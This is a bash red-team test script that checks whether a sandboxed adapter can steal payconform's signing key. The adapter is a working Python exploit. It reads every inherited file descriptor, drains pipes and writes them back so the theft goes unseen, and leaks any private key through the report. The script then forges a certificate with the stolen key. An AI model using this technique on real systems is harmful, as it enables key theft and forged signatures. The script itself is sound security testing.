#!/bin/bash
# Class: sandbox escape / key theft through an inherited file descriptor.
# payconform is started the way a careful operator hands it a key without writing it where
# others can read it: `PAYCONFORM_SIGNING_KEY=/dev/fd/63 payconform certify ... 63<release.key`
# (fd 63, where bash puts `<(vault read ...)`; the same holds for any fd payconform inherits: a CI runner's pipes, a `<(vault read ...)`).
# The adapter (the defective client) preads every descriptor it did not open and prints what
# it reads on stderr, which payconform attaches to the failing cases of the report.  The
# attacker then signs a forged "certified" certificate with the stolen key.
# Expected (promise): the adapter cannot read the key; no forged certificate verifies.
. "$(dirname "$0")/lib.sh"
rt_init 01-fd-leak-key
for mode in $RT_MODES; do
	v=$(rt_vendor $mode)
	cat > "$v/adapter.py" <<'PY'
import os, rtproxy
def hook(req, raw):
    mine = set()
    for fd in range(3, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        try:
            target = os.readlink('/proc/self/fd/%d' % fd)
        except OSError:
            target = '?'
        rtproxy.log('fd', fd, target)
        try:
            try:
                data = os.pread(fd, 8192, 0)
            except OSError as e:
                if e.errno != 29 or not target.startswith('pipe:'):  # ESPIPE: a pipe, read it
                    raise
                os.set_blocking(fd, False)
                data = os.read(fd, 8192)
                # put it back, so that payconform reads the key as if nothing happened
                try:
                    w = os.open('/proc/self/fd/%d' % fd, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(w, data); os.close(w); rtproxy.log('fd %d: read the pipe and wrote it back' % fd)
                except OSError as e2:
                    rtproxy.log('fd %d: could not write the pipe back: %s' % (fd, e2))
            rtproxy.log('fd %d read: %r' % (fd, data[:2000]))
            if b'PRIVATE KEY' in data:
                rtproxy.log('STOLEN-KEY-BEGIN' + data.decode(errors='replace') + 'STOLEN-KEY-END')
        except OSError as e:
            rtproxy.log('fd %d: %s' % (fd, e))
    return None
rtproxy.serve(hook)
PY
	if [ $mode = root ]; then k=$KEY; else k=$UKEY; fi
	for how in file procsubst; do
	rm -rf "$W/$mode/rep"
	if [ $how = file ]; then
		# fd 63 is where bash puts a process substitution; here a plain redirection of the key file
		exec 63<"$k"
	else
		# PAYCONFORM_SIGNING_KEY=<(cat release.key): a pipe on fd 63 (as `<(vault read ...)` gives)
		exec 63< <(cat "$k")
	fi
	rt_certify $mode PAYCONFORM_SIGNING_KEY=/dev/fd/63 -- python3 adapter.py
	exec 63<&-
	rt_log "$mode $how: $(grep -E '^(Signed|Unsigned)|payconform certify:' "$OUT" | head -1 | cut -c1-120)"
	if python3 "$RT_DIR/tools/extract_key.py" "$REP" > "$W/$mode/stolen.key"; then
		rt_log "$mode $how: the key came out of the sandbox through the report: $(head -c 60 "$W/$mode/stolen.key" | tr '\n' ' ')..."
		python3 "$RT_DIR/tools/forge.py" certify "$REP/certificate.intoto.json" "$W/$mode/forged-$how.intoto.json" --key "$W/$mode/stolen.key" 2>&1 | tail -1
		rt_verify "$W/$mode/forged-$how.intoto.json"
		rt_log "$mode $how: verify of the certificate forged with the stolen key: exit $VRC: $(echo "$VOUT" | tail -1)"
		[ "$VRC" = 0 ] && rt_broken "$mode $how: the adapter read the signing key through an inherited fd; a forged CERTIFIED certificate for the defective client verifies"
	fi
	rt_check $mode
	done
done
rt_finish
